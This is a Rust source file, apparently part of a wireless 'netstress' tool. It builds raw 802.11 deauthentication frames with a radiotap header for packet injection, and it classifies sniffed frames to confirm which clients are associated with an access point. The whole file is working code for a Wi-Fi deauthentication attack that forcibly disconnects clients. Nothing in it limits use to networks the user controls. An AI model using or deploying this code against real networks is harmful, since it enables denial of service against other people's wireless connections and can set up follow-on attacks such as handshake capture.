//! 802.11 frame types for the deauthentication subsystem
//!
//! Outbound deauthentication frames are built here (minimal radiotap header
//! plus management header). Inbound frames arrive already classified as
//! [`SniffedFrame`] from the external capture capability.

use netstress_core::MacAddr;

/// Frame control for a deauthentication frame: type 0 (management),
/// subtype 12
pub const FC_DEAUTH: u16 = 0x00C0;

/// Reason code 7: class 3 frame received from nonassociated station
pub const REASON_CLASS3_FRAME: u16 = 7;

/// Highest 2.4 GHz channel; anything above is classified as 5 GHz
pub const MAX_24GHZ_CHANNEL: u16 = 14;

/// Minimal radiotap header accepted by most drivers for injection
const RADIOTAP_MINIMAL: [u8; 8] = [
    0x00, // Header revision
    0x00, // Header pad
    0x08, 0x00, // Header length (LE)
    0x00, 0x00, 0x00, 0x00, // Present flags (none)
];

/// Wireless frequency band
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Band {
    /// 2.4 GHz (channels 1-14)
    Ghz24,
    /// 5 GHz (channels above 14)
    Ghz5,
}

impl Band {
    /// Classify a channel number into its band
    pub fn for_channel(channel: u16) -> Self {
        if channel > MAX_24GHZ_CHANNEL {
            Band::Ghz5
        } else {
            Band::Ghz24
        }
    }
}

/// Convert a radiotap channel frequency (MHz) to a channel number
pub fn frequency_to_channel(freq: u16) -> u16 {
    let base = if freq / 1000 == 5 { 5000 } else { 2407 };
    (freq - base) / 5
}

/// Deauthentication frame: management header plus reason code, prefixed with
/// a minimal radiotap header for injection.
#[derive(Debug, Clone)]
pub struct DeauthFrame {
    pub addr1: MacAddr,
    pub addr2: MacAddr,
    pub addr3: MacAddr,
    pub reason: u16,
}

impl DeauthFrame {
    pub fn new(addr1: MacAddr, addr2: MacAddr, addr3: MacAddr) -> Self {
        Self {
            addr1,
            addr2,
            addr3,
            reason: REASON_CLASS3_FRAME,
        }
    }

    /// Serialize: radiotap, frame control, duration, addresses, sequence
    /// control, reason code (little-endian fields per the standard).
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut bytes = Vec::with_capacity(RADIOTAP_MINIMAL.len() + 26);
        bytes.extend_from_slice(&RADIOTAP_MINIMAL);
        bytes.extend_from_slice(&FC_DEAUTH.to_le_bytes());
        bytes.extend_from_slice(&[0x3a, 0x01]); // Duration
        bytes.extend_from_slice(self.addr1.as_bytes());
        bytes.extend_from_slice(self.addr2.as_bytes());
        bytes.extend_from_slice(self.addr3.as_bytes());
        bytes.extend_from_slice(&[0x00, 0x00]); // Sequence control
        bytes.extend_from_slice(&self.reason.to_le_bytes());
        bytes
    }
}

/// Classified 802.11 frame kinds the interceptor reacts to
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FrameKind {
    Beacon,
    ProbeResponse,
    AssocResponse { status: u16 },
    ReassocResponse { status: u16 },
    QosData,
    Other,
}

/// A frame delivered by the external sniffing capability, decoded down to
/// the fields the interceptor classifies on.
#[derive(Debug, Clone)]
pub struct SniffedFrame {
    pub kind: FrameKind,
    /// Receiver address
    pub addr1: Option<MacAddr>,
    /// Transmitter address
    pub addr2: Option<MacAddr>,
    /// BSSID / AP address
    pub addr3: Option<MacAddr>,
    /// Raw SSID element bytes (beacons and probe responses)
    pub ssid: Option<Vec<u8>>,
    /// Radiotap channel frequency in MHz
    pub frequency: Option<u16>,
}

impl SniffedFrame {
    /// Does this frame confirm an associated client? Successful
    /// (re)association responses and any QoS data frame qualify.
    pub fn confirms_client(&self) -> bool {
        matches!(
            self.kind,
            FrameKind::AssocResponse { status: 0 }
                | FrameKind::ReassocResponse { status: 0 }
                | FrameKind::QosData
        )
    }
}
